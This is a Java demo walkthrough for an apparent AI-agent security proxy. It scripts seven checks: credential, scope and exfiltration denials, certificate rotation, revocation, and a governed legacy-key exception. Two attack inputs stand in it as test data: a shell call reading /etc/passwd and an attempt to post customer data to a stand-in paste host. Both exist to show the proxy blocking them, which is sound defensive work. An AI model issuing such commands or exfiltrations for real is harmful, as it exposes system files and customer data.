package dev.tollgate.cli.demo;

import java.io.IOException;
import java.io.PrintWriter;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.security.SecureRandom;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.AtomicReference;

import com.fasterxml.jackson.databind.JsonNode;

import io.micrometer.core.instrument.Counter;

import dev.tollgate.api.SpiffeId;
import dev.tollgate.api.client.ControlPlaneClient;
import dev.tollgate.api.token.ToolGrant;
import dev.tollgate.api.wire.Json;
import dev.tollgate.api.wire.TaskCreatedView;
import dev.tollgate.api.wire.TaskSpec;
import dev.tollgate.api.wire.ExceptionRequest;
import dev.tollgate.api.wire.ExceptionView;
import dev.tollgate.api.wire.InventoryAssetView;
import dev.tollgate.api.wire.PostureView;
import dev.tollgate.api.wire.UpstreamSecretRequest;
import dev.tollgate.api.wire.UpstreamSecretView;
import dev.tollgate.api.wire.WorkloadSpec;
import dev.tollgate.controlplane.governance.Exceptions;
import dev.tollgate.proxy.Sidecar;
import dev.tollgate.proxy.metrics.ProxyMetrics;
import dev.tollgate.proxy.tls.CertificateSnapshot;

import static dev.tollgate.cli.demo.McpAgent.args;
import static dev.tollgate.cli.demo.McpToolServer.READ_CUSTOMER;
import static dev.tollgate.cli.demo.McpToolServer.SHELL_EXEC;
import static dev.tollgate.cli.demo.McpToolServer.WEB_POST;

/**
 * The scripted agent's walk-through: seven steps against the running {@link Demo}, each judged on what the sidecars
 * answered and what reached the tool, and printed as what happened, why, and the figure that proves it.
 */
public final class Walkthrough {
    public static final int STEPS = 7;
    /** The policy rule that step 4 must run into. */
    public static final String TRANSITION_RULE = "no-exfiltration";
    /** Longest wait for anything a step waits for (an SVID renewal, a revocation reaching the sidecar). */
    static final Duration STEP_TIMEOUT = Duration.ofSeconds(20);
    /** Requests the background load must see complete before and after the rotation. */
    static final int LOAD_REQUESTS_EACH_SIDE = 50;
    /** Step 7's batch workload: a legacy integration with no task tokens. */
    public static final SpiffeId BATCH = SpiffeId.of(Demo.TRUST_DOMAIN, SpiffeId.Kind.AGENT, "nightly-billing");
    /** The upstream secret step 7 stores and the batch sidecar injects. */
    public static final String SECRET_NAME = "billing-api-key";
    /** How long step 7's exception lasts (it is revoked before, at the end of the step). */
    static final Duration EXCEPTION_LIFETIME = Duration.ofDays(7);
    /** The posture rule step 7's legacy upstream (TLS 1.2 only) must run into. */
    public static final String WEAK_TLS_RULE = dev.tollgate.controlplane.inventory.Posture.Rule.WEAK_UPSTREAM_TLS.id;

    private final Demo demo;
    private final McpAgent agent;
    private final PrintWriter out;

    public Walkthrough(Demo demo, PrintWriter out) {
        this.demo = demo;
        this.agent = new McpAgent(demo.mcpEndpoint());
        this.out = out;
    }

    /** Runs every step in order, printing each as it completes; a step that throws is a failed step. */
    public List<StepResult> run() throws InterruptedException {
        List<StepResult> results = new ArrayList<>();
        results.add(step(1, "an allowed tool call", this::allowedCall));
        results.add(step(2, "a call without a credential", this::noCredential));
        results.add(step(3, "a tool outside the task's scope", this::outOfScope));
        results.add(step(4, "sensitive read, then external egress", this::exfiltration));
        results.add(step(5, "SVID rotation under load", this::rotation));
        results.add(step(6, "task completion, then revocation enforced", this::completion));
        results.add(step(7, "governance: a legacy integration under a time-boxed exception", this::governance));
        return results;
    }

    interface Body {
        StepResult run(int n, String title) throws Exception;
    }

    private StepResult step(int n, String title, Body body) throws InterruptedException {
        StepResult r;
        try {
            r = body.run(n, title);
        } catch (InterruptedException e) {
            throw e;
        } catch (Exception e) {
            r = new StepResult(n, title, false, "the step did not complete", "", "", e.toString(), Map.of());
        }
        print(r);
        return r;
    }

    private void print(StepResult r) {
        out.printf("%n[%d/%d] %s %s%n", r.number(), STEPS, r.title(), r.passed() ? "— as expected" : "— UNEXPECTED");
        out.println("  what:   " + r.what());
        if (!r.why().isEmpty()) {
            out.println("  why:    " + r.why());
        }
        if (!r.figure().isEmpty()) {
            out.println("  figure: " + r.figure());
        }
        if (!r.passed()) {
            out.println("  problem: " + r.problem());
        }
        out.flush();
    }

    // ---- the steps ----------------------------------------------------------------------------------------------

    private StepResult allowedCall(int n, String title) throws Exception {
        TaskCreatedView task = task("look up customer c-42 for the quarterly review", READ_CUSTOMER, WEB_POST);
        McpAgent.Reply init = agent.initialize(task.token());
        McpAgent.Reply list = agent.listTools(task.token());
        long before = demo.tools().toolCalls();
        McpAgent.Reply call = agent.call(task.token(), READ_CUSTOMER, args("id", "c-42"));
        long executed = demo.tools().toolCalls() - before;
        String seen = demo.tools().lastToken();
        JsonNode header = jwtPart(seen, 0);
        JsonNode claims = jwtPart(seen, 1);
        int listed = list.body() == null ? 0 : list.body().path("result").path("tools").size();
        Map<String, Object> facts = facts("status", call.status(), "executed", executed, "initialize", init.status(),
                "listedTools", listed,
                "toolsList", list.status(), "toolTokenType", header.path("typ").asText(""),
                "toolTokenAudience", claims.path("aud").asText(""));
        Problems p = new Problems();
        p.expect(init.ok(), "initialize answered " + init.status());
        p.expect(list.ok(), "tools/list answered " + list.status());
        p.expect(call.ok(), "tools/call answered " + call.status() + " " + call.body());
        p.expect(executed == 1, "the tool executed " + executed + " calls (expected 1)");
        p.expect(!seen.equals(task.token()), "the tool saw the agent's own task token");
        p.expect(Demo.TOOL.toString().equals(claims.path("aud").asText()),
                "the token at the tool has aud " + claims.path("aud") + " (expected " + Demo.TOOL + ")");
        return new StepResult(n, title, p.none(),
                "research-bot, in task " + task.task().id() + " (scope: " + READ_CUSTOMER + ", " + WEB_POST
                        + "), called " + READ_CUSTOMER + " through its sidecar: \"" + call.text() + "\"",
                "the task token verified at the agent's sidecar, which exchanged it for a token bound to "
                        + Demo.TOOL + "; the tool's sidecar verified that one over mTLS. The task token never left.",
                "tools/list showed " + listed + " of the server's " + McpToolServer.TOOL_COUNT + " tools"
                        + (listed < McpToolServer.TOOL_COUNT ? " (the sidecar removed those outside the task's scope)" : "")
                        + "; tools/call: HTTP " + call.status() + " in " + ms(call.took()) + "; the tool executed "
                        + executed
                        + " call, carrying a " + header.path("typ").asText("?") + " for "
                        + claims.path("aud").asText("?") + " (task " + claims.path("task_id").asText("?") + ")",
                p.text(), facts);
    }

    private StepResult noCredential(int n, String title) throws Exception {
        double deniedBefore = decisions(demo.agentSidecar(), "denied", "missing");
        long before = demo.tools().toolCalls();
        McpAgent.Reply r = agent.call(null, READ_CUSTOMER, args("id", "c-42"));
        long executed = demo.tools().toolCalls() - before;
        double counted = decisions(demo.agentSidecar(), "denied", "missing") - deniedBefore;
        Problems p = new Problems();
        p.expect(r.status() == 401, "HTTP " + r.status() + " (expected 401)");
        p.expect("missing".equals(r.reason()), "reason '" + r.reason() + "' (expected 'missing')");
        p.expect(executed == 0, "the tool executed " + executed + " calls (expected 0)");
        return new StepResult(n, title, p.none(),
                "the agent called " + READ_CUSTOMER + " with no Authorization header: blocked at its own sidecar",
                "reason '" + r.reason() + "' (" + r.error() + "): every request needs a valid task token",
                "HTTP " + r.status() + " in " + ms(r.took()) + "; the tool executed " + executed + " calls; "
                        + "tollgate_proxy_credentials_decisions_total{direction=egress,outcome=denied,reason=missing} +"
                        + (long) counted,
                p.text(), facts("status", r.status(), "reason", r.reason(), "executed", executed));
    }

    private StepResult outOfScope(int n, String title) throws Exception {
        TaskCreatedView task = task("summarise customer c-42", READ_CUSTOMER, WEB_POST);
        long before = demo.tools().toolCalls();
        McpAgent.Reply r = agent.call(task.token(), SHELL_EXEC, args("command", "cat /etc/passwd"));
        long executed = demo.tools().toolCalls() - before;
        Problems p = new Problems();
        p.expect(r.status() == 403, "HTTP " + r.status() + " (expected 403)");
        p.expect("tool_not_in_scope".equals(r.reason()), "reason '" + r.reason() + "' (expected 'tool_not_in_scope')");
        p.expect(r.body() != null && r.body().path("error").path("code").asInt() == -32003,
                "not a JSON-RPC error -32003: " + r.body());
        p.expect(executed == 0, "the tool executed " + executed + " calls (expected 0)");
        return new StepResult(n, title, p.none(),
                "the agent called " + SHELL_EXEC + ", which the tool server offers but task " + task.task().id()
                        + " does not name: blocked at its own sidecar",
                "reason '" + r.reason() + "' (" + r.error() + "): the sidecar read the MCP tools/call and checked "
                        + "the tool name against the task token's scope",
                "HTTP " + r.status() + " in " + ms(r.took()) + ", JSON-RPC error " + r.body().path("error").path("code")
                        .asText("?") + " for request id " + r.body().path("id").asText("?") + "; the tool executed "
                        + executed + " calls",
                p.text(), facts("status", r.status(), "reason", r.reason(), "executed", executed));
    }

    private StepResult exfiltration(int n, String title) throws Exception {
        TaskCreatedView task = task("read customer c-42, post a summary", READ_CUSTOMER, WEB_POST);
        long before = demo.tools().toolCalls();
        McpAgent.Reply post = agent.call(task.token(), WEB_POST, args("url", "https://paste.example/new",
                "body", "weekly status: all good"));
        McpAgent.Reply read = agent.call(task.token(), READ_CUSTOMER, args("id", "c-42"));
        McpAgent.Reply leak = agent.call(task.token(), WEB_POST, args("url", "https://paste.example/new",
                "body", read.text()));
        long executed = demo.tools().toolCalls() - before;
        Problems p = new Problems();
        p.expect(post.ok(), "the first web.post (before any sensitive read) answered " + post.status());
        p.expect(read.ok(), "crm.read_customer answered " + read.status());
        p.expect(leak.status() == 403, "the web.post after the read answered HTTP " + leak.status()
                + " (expected 403)");
        p.expect("transition_forbidden".equals(leak.reason()), "reason '" + leak.reason()
                + "' (expected 'transition_forbidden')");
        p.expect(TRANSITION_RULE.equals(leak.rule()), "rule '" + leak.rule() + "' (expected '" + TRANSITION_RULE
                + "')");
        p.expect(executed == 2, "the tool executed " + executed + " calls (expected 2)");
        return new StepResult(n, title, p.none(),
                "in task " + task.task().id() + ": " + WEB_POST + " (allowed), " + READ_CUSTOMER + " (allowed), then "
                        + WEB_POST + " with the customer record as its body: blocked",
                "rule '" + leak.rule() + "', reason '" + leak.reason() + "': external-egress after "
                        + (leak.afterTool().isEmpty() ? "a sensitive-read" : leak.afterTool())
                        + " in the same task. Each call alone is in scope; the transition is not.",
                "HTTP " + post.status() + ", " + read.status() + ", " + leak.status() + "; the tool executed "
                        + executed + " of 3 calls; the denial took " + ms(leak.took()),
                p.text(), facts("status", leak.status(), "reason", leak.reason(), "rule", leak.rule(),
                        "after", leak.afterTool(), "executed", executed));
    }

    private StepResult rotation(int n, String title) throws Exception {
        TaskCreatedView task = task("keep working while certificates rotate", READ_CUSTOMER);
        Sidecar agentSide = demo.agentSidecar();
        Sidecar toolSide = demo.toolSidecar();
        BigInteger agentBefore = serial(agentSide);
        BigInteger toolBefore = serial(toolSide);
        Load load = new Load(task.token());
        Thread t = new Thread(load, "tollgate-demo-load");
        t.setDaemon(true);
        t.start();
        long rotatedAt;
        try {
            Demo.await("background requests to flow", STEP_TIMEOUT,
                    () -> load.ok.get() >= LOAD_REQUESTS_EACH_SIDE || load.failed.get() > 0);
            Demo.renewNow(agentSide).get(STEP_TIMEOUT.toSeconds(), TimeUnit.SECONDS);
            Demo.renewNow(toolSide).get(STEP_TIMEOUT.toSeconds(), TimeUnit.SECONDS);
            Demo.await("both sidecars to serve with a new SVID", STEP_TIMEOUT,
                    () -> !serial(agentSide).equals(agentBefore) && !serial(toolSide).equals(toolBefore));
            long okAtRotation = load.ok.get();
            rotatedAt = okAtRotation;
            Demo.await("background requests to flow after the rotation", STEP_TIMEOUT,
                    () -> load.ok.get() >= okAtRotation + LOAD_REQUESTS_EACH_SIDE || load.failed.get() > 0);
        } finally {
            load.stop.set(true);
            t.join(TimeUnit.SECONDS.toMillis(10));
        }
        BigInteger agentAfter = serial(agentSide);
        BigInteger toolAfter = serial(toolSide);
        CertificateSnapshot now = Demo.certificate(agentSide).orElseThrow();
        long svids = demo.operator().svids(Demo.AGENT, 100).size();
        Problems p = new Problems();
        p.expect(!agentAfter.equals(agentBefore), "the agent sidecar's SVID serial did not change");
        p.expect(!toolAfter.equals(toolBefore), "the tool sidecar's SVID serial did not change");
        p.expect(load.failed.get() == 0, load.failed.get() + " requests failed during the rotation (first: "
                + load.firstFailure.get() + ")");
        p.expect(load.ok.get() > rotatedAt, "no request completed after the rotation");
        return new StepResult(n, title, p.none(),
                "both sidecars renewed their SVIDs (new key pair, CSR, mTLS to the control plane) while the agent "
                        + "kept sending MCP requests through them",
                "a sidecar renews at half its SVID's life (here: 1 minute SVIDs, so about every 30 s; forced now);"
                        + " new handshakes take the new certificate, requests in flight are not disturbed",
                "agent SVID serial " + hex(agentBefore) + " → " + hex(agentAfter) + " (valid until "
                        + now.notAfter() + "), tool SVID " + hex(toolBefore) + " → " + hex(toolAfter) + "; "
                        + load.ok.get() + " requests during the step, " + load.failed.get()
                        + " failed; " + svids + " SVIDs issued to the agent so far (./tollgate ctl svid list)",
                p.text(), facts("agentSerialBefore", hex(agentBefore), "agentSerialAfter", hex(agentAfter),
                        "toolSerialBefore", hex(toolBefore), "toolSerialAfter", hex(toolAfter),
                        "requests", load.ok.get(), "failed", load.failed.get()));
    }

    private StepResult completion(int n, String title) throws Exception {
        TaskCreatedView task = task("one lookup, then done", READ_CUSTOMER);
        McpAgent.Reply first = agent.call(task.token(), READ_CUSTOMER, args("id", "c-7"));
        demo.operator().completeTask(task.task().id());
        long acknowledged = System.nanoTime();
        long allowedAfter = 0;
        McpAgent.Reply denial = null;
        long deniedAt = 0;
        long deadline = acknowledged + STEP_TIMEOUT.toNanos();
        while (System.nanoTime() < deadline) {
            McpAgent.Reply r = agent.listTools(task.token());
            if (r.status() != 200) {
                deniedAt = System.nanoTime();
                denial = r;
                break;
            }
            allowedAfter++;
        }
        long before = demo.tools().toolCalls();
        McpAgent.Reply call = agent.call(task.token(), READ_CUSTOMER, args("id", "c-7"));
        long executed = demo.tools().toolCalls() - before;
        Duration propagation = Duration.ofNanos(deniedAt - acknowledged);
        Problems p = new Problems();
        p.expect(first.ok(), "the call before completion answered " + first.status());
        p.expect(denial != null, "still allowed " + STEP_TIMEOUT.toSeconds() + " s after the task was completed");
        p.expect(denial == null || denial.status() == 401, "the first denial was HTTP "
                + (denial == null ? "-" : denial.status()) + " (expected 401)");
        p.expect(denial == null || "revoked".equals(denial.reason()), "the first denial's reason was '"
                + (denial == null ? "" : denial.reason()) + "' (expected 'revoked')");
        p.expect(call.status() == 401 && "revoked".equals(call.reason()), "a tools/call after completion answered "
                + call.status() + " '" + call.reason() + "' (expected 401 'revoked')");
        p.expect(executed == 0, "the tool executed " + executed + " calls after completion (expected 0)");
        return new StepResult(n, title, p.none(),
                "the operator completed task " + task.task().id() + " through the control-plane API; the agent "
                        + "kept using its token",
                "completing a task revokes every credential of the task; the revocation reaches every sidecar "
                        + "over its watch stream, and the next request is denied '" + call.reason() + "'",
                denial == null ? "no denial" : (allowedAfter == 0
                        ? "propagation ≤ " + ms(propagation) + ": the first request sent after the control plane "
                                + "acknowledged the completion was already denied"
                        : "first denial " + ms(propagation) + " after the control plane acknowledged the completion ("
                                + allowedAfter + " requests still allowed in between)")
                        + "; the tool executed " + executed + " calls after",
                p.text(), facts("status", call.status(), "reason", call.reason(), "propagationMillis",
                        propagation.toNanos() / 1e6, "executed", executed));
    }

    private StepResult governance(int n, String title) throws Exception {
        byte[] raw = new byte[18];
        new SecureRandom().nextBytes(raw);
        String apiKey = "lk_" + HexFormat.of().formatHex(raw);
        LegacyApi legacy = demo.startLegacyApi(apiKey);
        ControlPlaneClient admin = demo.operator();
        admin.registerWorkload(new WorkloadSpec(BATCH.toString(), "carol@example.com", "team-billing",
                "nightly billing export: reads invoices from the legacy billing API", List.of(), null, null));
        ControlPlaneClient requester = demo.operatorClient("dana", "operator", "dana@example.com");
        ControlPlaneClient approver = demo.operatorClient("erin", "admin", "erin@example.com");
        ExceptionView requested = requester.requestException(new ExceptionRequest(Exceptions.INJECT_CREDENTIAL,
                BATCH.toString(), legacy.address(), null, "egress", null, null,
                "the legacy billing API takes only a static API key; its vendor ships OAuth next quarter",
                "carol@example.com", EXCEPTION_LIFETIME.toSeconds(), null));
        ExceptionView approved = approver.approveException(requested.id());
        UpstreamSecretView secret = requester.putUpstreamSecret(new UpstreamSecretRequest(SECRET_NAME,
                BATCH.toString(), legacy.address(), requested.id(), apiKey, "carol@example.com", "team-billing",
                Duration.ofDays(30).toSeconds()));
        Sidecar batch = demo.sidecar("batch-sidecar", BATCH, """
                listeners:
                  egress: {address: "127.0.0.1:0"}
                  admin: {address: "127.0.0.1:0"}
                upstreams:
                  billing:
                    address: "%s"
                    tls: external
                    roots: "%s"
                    match: {path-prefix: %s}
                    inject: {secret: %s, header: %s}
                """.formatted(legacy.address(), legacy.roots(), LegacyApi.PATH, SECRET_NAME, LegacyApi.KEY_HEADER));
        Demo.await("the batch sidecar to hold an SVID and the signing keys", STEP_TIMEOUT,
                () -> Demo.enforcing(batch));
        URI invoices = URI.create("http://127.0.0.1:" + batch.egressAddress().orElseThrow().getPort()
                + LegacyApi.PATH + "/invoices?month=2026-11");

        // The batch agent has no task token and no API key; it sends a guess, which the sidecar must replace.
        String guess = "agent-guessed-key";
        Plain call = null;
        int fetchWaits = 0;
        long deadline = System.nanoTime() + STEP_TIMEOUT.toNanos();
        while (System.nanoTime() < deadline) {
            call = plain(invoices, guess);
            boolean secretNotYetFetched = call.status() == 403 && "injection_unavailable".equals(call.reason());
            boolean grantNotYetDelivered = call.status() == 401 && "missing".equals(call.reason());
            if (!secretNotYetFetched && !grantNotYetDelivered) {
                break;
            }
            // the sidecar fetches the secret and receives the exception's grant on its watch stream right after it
            // starts; until then it refuses
            fetchWaits++;
            Thread.sleep(50);
        }
        long acceptedUnderException = legacy.accepted();

        // Posture: the sidecar ships what it saw of the upstream's TLS with its decisions (every second).
        Optional<PostureView.Finding> weak = Optional.empty();
        PostureView posture = null;
        deadline = System.nanoTime() + STEP_TIMEOUT.toNanos();
        while (weak.isEmpty() && System.nanoTime() < deadline) {
            posture = admin.posture();
            weak = posture.findings().stream().filter(f -> WEAK_TLS_RULE.equals(f.rule())
                    && BATCH.toString().equals(f.workload())).findFirst();
            if (weak.isEmpty()) {
                Thread.sleep(250);
            }
        }

        // Inventory of the batch workload (read once the sidecar's TLS report arrived with its decisions): the
        // exception, the secret, its SVID and the upstream TLS endpoint it saw, with owners.
        List<InventoryAssetView> assets = admin.inventory(Map.of("workload", BATCH.toString())).assets();
        List<String> kinds = assets.stream().map(InventoryAssetView::kind).distinct().toList();

        // Revoke the exception: the same call is refused at the sidecar, the legacy API sees nothing.
        long requestsBefore = legacy.requests();
        approver.revokeException(requested.id(), "demo: the vendor shipped OAuth, migrate to task tokens");
        long revokedAt = System.nanoTime();
        Plain refused = null;
        long allowedAfter = 0;
        deadline = revokedAt + STEP_TIMEOUT.toNanos();
        while (System.nanoTime() < deadline) {
            Plain r = plain(invoices, guess);
            if (r.status() != 200) {
                refused = r;
                break;
            }
            allowedAfter++;
        }
        Duration propagation = Duration.ofNanos(System.nanoTime() - revokedAt);
        Plain again = plain(invoices, guess);
        long reachedAfter = legacy.requests() - requestsBefore - allowedAfter;

        Problems p = new Problems();
        p.expect(!requested.requestedBy().equals(approved.approvedBy()), "requested and approved by the same operator");
        p.expect("active".equals(approved.state()), "the exception is '" + approved.state() + "' after approval");
        p.expect(call != null && call.status() == 200, "the batch call answered "
                + (call == null ? "nothing" : call.status() + " " + call.body()));
        p.expect(acceptedUnderException == 1, "the legacy API accepted " + acceptedUnderException
                + " requests with its key (expected 1)");
        p.expect(legacy.foreignKey().isEmpty(), "the agent's own " + LegacyApi.KEY_HEADER
                + " reached the legacy API");
        p.expect(kinds.contains("exception"), "the inventory of " + BATCH + " lists no exception: " + kinds);
        p.expect(kinds.contains("svid"), "the inventory of " + BATCH + " lists no SVID: " + kinds);
        p.expect(kinds.contains("upstream_secret"), "the inventory of " + BATCH + " lists no upstream secret: " + kinds);
        p.expect(kinds.contains("upstream_tls"), "the inventory of " + BATCH + " lists no upstream TLS endpoint: "
                + kinds);
        p.expect(assets.stream().filter(a -> List.of("exception", "svid", "upstream_secret", "upstream_tls")
                .contains(a.kind())).allMatch(a -> a.humanOwner() != null && a.serviceOwner() != null),
                "an asset of " + BATCH + " has no owner");
        p.expect(weak.isPresent(), "the posture report has no " + WEAK_TLS_RULE + " finding for " + BATCH
                + " after " + STEP_TIMEOUT.toSeconds() + " s");
        p.expect(refused != null, "still allowed " + STEP_TIMEOUT.toSeconds() + " s after the exception was revoked");
        p.expect(again.status() != 200, "a call after the revocation answered " + again.status());
        p.expect(reachedAfter == 0, reachedAfter + " requests reached the legacy API after the revocation");

        String inventory = assets.stream()
                .filter(a -> List.of("exception", "upstream_secret", "svid", "upstream_tls").contains(a.kind()))
                .filter(a -> !"svid".equals(a.kind()) || "current".equals(a.state()))
                .map(a -> a.kind() + " " + shorten(a.id()) + " [" + a.state() + "] owners " + a.humanOwner() + " / "
                        + a.serviceOwner())
                .collect(java.util.stream.Collectors.joining(NEXT_LINE));
        return new StepResult(n, title, p.none(),
                "operator dana asked for an " + Exceptions.INJECT_CREDENTIAL + " exception (" + requested.id() + ", "
                        + EXCEPTION_LIFETIME.toDays() + " days) for " + BATCH + " → " + legacy.address()
                        + " (TLS 1.2 only, static API key); admin erin approved it; the key was stored as upstream "
                        + "secret '" + secret.name() + "' (write-only); the batch agent called "
                        + LegacyApi.PATH + "/invoices with no task token and a guessed key; then erin revoked it",
                "an exception is scoped (workload, upstream, direction), owned, justified, time-boxed and approved "
                        + "by a second admin; the batch sidecar learns it over its watch stream, fetches the secret "
                        + "over mTLS, strips what the agent sent and injects the key: the agent never holds it. "
                        + "Revoked, it waives nothing at once",
                "under the exception: HTTP " + (call == null ? "-" : call.status()) + " (legacy API accepted "
                        + acceptedUnderException + " request with the injected key, over " + legacy.lastProtocol()
                        + "; the agent's guess reached it: " + (!legacy.foreignKey().isEmpty()) + ")"
                        + (fetchWaits > 0 ? " after " + fetchWaits + " refusals while the secret was fetched" : "")
                        + NEXT_LINE + "inventory (ctl inventory list --workload " + BATCH + "):"
                        + NEXT_LINE + "  " + inventory.replace(NEXT_LINE, NEXT_LINE + "  ")
                        + NEXT_LINE + "posture (ctl posture): score " + (posture == null ? "?" : posture.score())
                        + ", " + weak.map(f -> f.severity() + " " + f.rule() + ": " + f.detail())
                                .orElse("no " + WEAK_TLS_RULE + " finding")
                        + NEXT_LINE + "after the revocation: HTTP " + (refused == null ? "-" : refused.status() + " '"
                                + refused.reason() + "'") + " after " + ms(propagation) + " (" + allowedAfter
                        + " still allowed in between); the legacy API saw " + reachedAfter + " requests after",
                p.text(), facts("status", call == null ? 0 : call.status(), "injected", acceptedUnderException,
                        "agentKeyReachedUpstream", !legacy.foreignKey().isEmpty(), "exception", requested.id(),
                        "requestedBy", requested.requestedBy(), "approvedBy", String.valueOf(approved.approvedBy()),
                        "inventoryKinds", kinds, "postureRule", weak.map(PostureView.Finding::rule).orElse(""),
                        "deniedStatus", again.status(), "deniedReason", again.reason(),
                        "reachedAfterRevocation", reachedAfter));
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    /** Continuation of a multi-line figure, aligned under its first line. */
    private static final String NEXT_LINE = System.lineSeparator() + "          ";

    /** What a plain HTTP client (the batch agent) got back. */
    record Plain(int status, String body, String reason) {
    }

    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    private Plain plain(URI uri, String apiKey) throws IOException, InterruptedException {
        HttpResponse<String> r = http.send(HttpRequest.newBuilder(uri).timeout(STEP_TIMEOUT)
                .header(LegacyApi.KEY_HEADER, apiKey).GET().build(), HttpResponse.BodyHandlers.ofString());
        String reason = "";
        try {
            reason = Json.mapper().readTree(r.body()).path("reason").asText("");
        } catch (IOException e) {
            // not JSON: the upstream's answer
        }
        return new Plain(r.statusCode(), r.body(), reason);
    }

    private static String shorten(String id) {
        return id.length() > 40 ? id.substring(0, 40) + "…" : id;
    }


    /** Sends tools/list requests back to back until stopped, counting answers and failures. */
    private final class Load implements Runnable {
        final String token;
        final AtomicBoolean stop = new AtomicBoolean();
        final AtomicLong ok = new AtomicLong();
        final AtomicLong failed = new AtomicLong();
        final AtomicReference<String> firstFailure = new AtomicReference<>("");

        Load(String token) {
            this.token = token;
        }

        @Override
        public void run() {
            McpAgent client = new McpAgent(demo.mcpEndpoint());
            while (!stop.get()) {
                try {
                    McpAgent.Reply r = client.listTools(token);
                    if (r.ok()) {
                        ok.incrementAndGet();
                    } else {
                        fail("HTTP " + r.status() + " " + r.body());
                    }
                } catch (IOException e) {
                    fail(e.toString());
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                    return;
                }
            }
        }

        private void fail(String why) {
            failed.incrementAndGet();
            firstFailure.compareAndSet("", why);
        }
    }

    private TaskCreatedView task(String intent, String... tools) {
        return demo.operator().createTask(new TaskSpec(Demo.AGENT.toString(),
                java.util.Arrays.stream(tools).map(ToolGrant::of).toList(), intent, 300L));
    }

    private static BigInteger serial(Sidecar s) {
        return Demo.certificate(s).map(c -> c.leaf().getSerialNumber()).orElse(BigInteger.ZERO);
    }

    private static String hex(BigInteger serial) {
        String h = serial.toString(16);
        return h.length() > 12 ? h.substring(0, 12) + "…" : h;
    }

    private static double decisions(Sidecar s, String outcome, String reason) {
        return s.registry().find(ProxyMetrics.CREDENTIAL_DECISIONS).tags(ProxyMetrics.TAG_DIRECTION, "egress",
                ProxyMetrics.TAG_OUTCOME, outcome, ProxyMetrics.TAG_REASON, reason).counters().stream()
                .mapToDouble(Counter::count).sum();
    }

    private static JsonNode jwtPart(String jwt, int index) {
        String[] parts = jwt.split("\\.");
        if (parts.length != 3) {
            return Json.mapper().createObjectNode();
        }
        try {
            return Json.mapper().readTree(new String(Base64.getUrlDecoder().decode(parts[index]),
                    StandardCharsets.UTF_8));
        } catch (IOException | IllegalArgumentException e) {
            return Json.mapper().createObjectNode();
        }
    }

    static String ms(Duration d) {
        return String.format(java.util.Locale.ROOT, "%.1f ms", d.toNanos() / 1e6);
    }

    private static Map<String, Object> facts(Object... kv) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i + 1 < kv.length; i += 2) {
            m.put((String) kv[i], kv[i + 1]);
        }
        return m;
    }

    /** What was not as expected in a step. */
    private static final class Problems {
        private final List<String> list = new ArrayList<>();

        void expect(boolean condition, String otherwise) {
            if (!condition) {
                list.add(otherwise);
            }
        }

        boolean none() {
            return list.isEmpty();
        }

        String text() {
            return String.join("; ", list);
        }
    }

    static Optional<String> firstFailure(List<StepResult> results) {
        return results.stream().filter(r -> !r.passed()).findFirst()
                .map(r -> "step " + r.number() + " (" + r.title() + "): " + r.problem());
    }
}
